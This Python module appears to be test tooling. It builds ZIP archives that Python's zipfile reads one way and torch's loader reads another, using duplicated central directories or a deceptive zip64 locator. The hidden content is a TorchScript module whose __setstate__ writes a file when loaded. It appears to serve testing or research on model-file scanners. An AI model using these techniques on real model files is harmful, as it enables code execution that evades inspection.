"""Files that show one content to Python's ``zipfile`` and another one, which runs code, to torch's own reader.

torch finds the directory of an archive where the end record says, ``zipfile`` directly before the end record. What torch
is to find is a TorchScript module, whose ``__setstate__`` writes a file.
"""

import io
import struct
import warnings
import zipfile
from pathlib import Path

import torch

_END, _LOCATOR, _END64 = "<4s4H2LH", "<4sLQL", "<4sQ2H2L4Q"


class _Writer(torch.nn.Module):
    """Writes a file when it is loaded."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    @torch.jit.export
    def __getstate__(self):
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.path = state[0]
        self.training = state[1]
        torch.save(torch.ones(1), state[0])

    def forward(self, x):
        return x


def script(mark: Path) -> bytes:
    """A TorchScript archive; torch writes ``mark`` when it loads it."""
    stream = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(_Writer(str(mark))), stream)
    return stream.getvalue()


def _entries(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def _parts(entries: list[tuple[str, bytes]], comment: bytes = b"") -> tuple[bytes, bytes]:
    """The files of an archive and its directory, of which the last entry has ``comment``."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for i, (name, data) in enumerate(entries):
            info = zipfile.ZipInfo(name)
            info.comment = comment if i == len(entries) - 1 else b""
            archive.writestr(info, data)
        start = archive.start_dir
    return stream.getvalue()[:start], stream.getvalue()[start:-22]


def _moved(directory: bytes, by: int) -> bytes:
    """The directory with other positions of its files."""
    out, position = bytearray(directory), 0
    while position < len(out):
        lengths = struct.unpack_from("<3H", out, position + 28)
        (offset,) = struct.unpack_from("<L", out, position + 42)
        struct.pack_into("<L", out, position + 42, offset + by)
        position += 46 + sum(lengths)
    return bytes(out)


def two_directories(shown: bytes, hidden: bytes) -> bytes:
    """An archive with the directories of two: ``shown`` before the end record, ``hidden`` where the record points."""
    front, back = _entries(shown), _entries(hidden)
    name = back[0][0].partition("/")[0]
    files, directory = _parts(front)
    back.append((f"{name}/extra/padding", bytes(len(files))))  # positions of the shown files stay above zero
    while len(back) < len(front):
        back.append((f"{name}/extra/{len(back)}", b""))
    while len(front) < len(back):
        front.append((f"{front[0][0].partition('/')[0]}/extra/{len(front)}", b""))
    sizes = len(_parts(front)[1]), len(_parts(back)[1])
    files, directory = _parts(front, b" " * max(0, sizes[1] - sizes[0]))
    back_files, back_directory = _parts(back, b" " * max(0, sizes[0] - sizes[1]))
    assert len(directory) == len(back_directory)
    start = len(back_files) + len(back_directory)
    apparent = start + len(files) - len(back_files)  # what zipfile takes for the length of something in front
    end = struct.pack(_END, b"PK\5\6", 0, 0, len(front), len(front), len(directory), len(back_files), 0)
    return back_files + back_directory + files + _moved(directory, start - apparent) + end


def zip64_locator(shown: bytes, hidden: bytes) -> bytes:
    """An archive whose end record names the directory of ``shown``, and whose zip64 locator that of ``hidden``."""
    front, back = _entries(shown), _entries(hidden)
    files = _parts(front)[0]
    back_files, back_directory = _parts(back)
    back_directory = _moved(back_directory, len(files))
    hidden_at = len(files) + len(back_files)
    record = hidden_at + len(back_directory)
    end64 = struct.pack(_END64, b"PK\6\6", 44, 45, 45, 0, 0, len(back), len(back), len(back_directory), hidden_at)
    # zipfile takes the locator for a comment on the last entry, because no zip64 record is directly before it.
    directory = _parts(front, struct.pack(_LOCATOR, b"PK\6\7", 0, record, 1))[1]
    before = files + back_files + back_directory + end64
    return (
        before + directory + struct.pack(_END, b"PK\5\6", 0, 0, len(front), len(front), len(directory), len(before), 0)
    )


ATTACKS = {"two directories": two_directories, "zip64 locator": zip64_locator}
